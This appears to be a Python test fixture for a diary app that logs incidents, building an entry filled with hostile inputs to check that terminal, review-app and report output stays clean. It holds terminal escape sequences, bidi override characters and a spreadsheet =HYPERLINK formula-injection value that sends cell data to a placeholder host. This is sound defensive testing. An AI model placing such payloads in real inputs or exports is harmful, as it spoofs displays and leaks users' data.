"""A sealed diary whose entry holds terminal escapes and bidi overrides in every field a person can fill, shared by
the tests that show a diary (terminal, review app, report); not a test module."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

from conftest import TEST_PASSPHRASE

from voicelog.incident import Incident, PersonRef
from voicelog.store import opening
from voicelog.transcript import Transcript

PLACE = "Main St\x1b[2J\u202eevil"
"""An ESC sequence that clears the screen, then a right-to-left override."""
NAME = "Mark\x1b]0;owned\x07 \u2066Jones\x9b31m"
"""An OSC title change, a bidi isolate and a C1 CSI."""
SAID = "he came \x1b[1A\x1b[2Kback\u202e at night"
"""Moves the cursor up and erases the line above."""
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
"""What a spreadsheet would run if the CSV held it as it is."""
RAW = ("\x1b", "\u202e", "\u2066", "\x9b", "\x07")
"""None of these may reach a screen or a report."""


def hostile_diary(path: Path) -> Path:
    """A sealed diary at ``path``: entry 1 hostile everywhere, entry 2 with a formula for a place and account."""
    opening.init_diary(path, passphrase=TEST_PASSPHRASE)
    with opening.open_for_recording(path) as book:
        book.append(recorded_at=datetime(2026, 3, 1, 21, 0), transcript=Transcript(SAID),
                    incident=Incident(date="2026-03-01", location=PLACE, people=(PersonRef(NAME, "subject"),),
                                      categories=("following\u202e",), impact=("scared\x1b[5m",),
                                      sources={"location": PLACE}), source="text")
        book.append(recorded_at=datetime(2026, 3, 2, 21, 0), transcript=Transcript(FORMULA),
                    incident=Incident(date="2026-03-02", location="+" + FORMULA, categories=("threats",)),
                    source="text")
    with opening.open_for_reading(path, passphrase=TEST_PASSPHRASE) as book:
        book.add_person(NAME, ["@mark\u202e"])
    return path


def has_raw(text: str) -> bool:
    """Whether ``text`` holds any character of :data:`RAW` as it is."""
    return any(c in text for c in RAW)
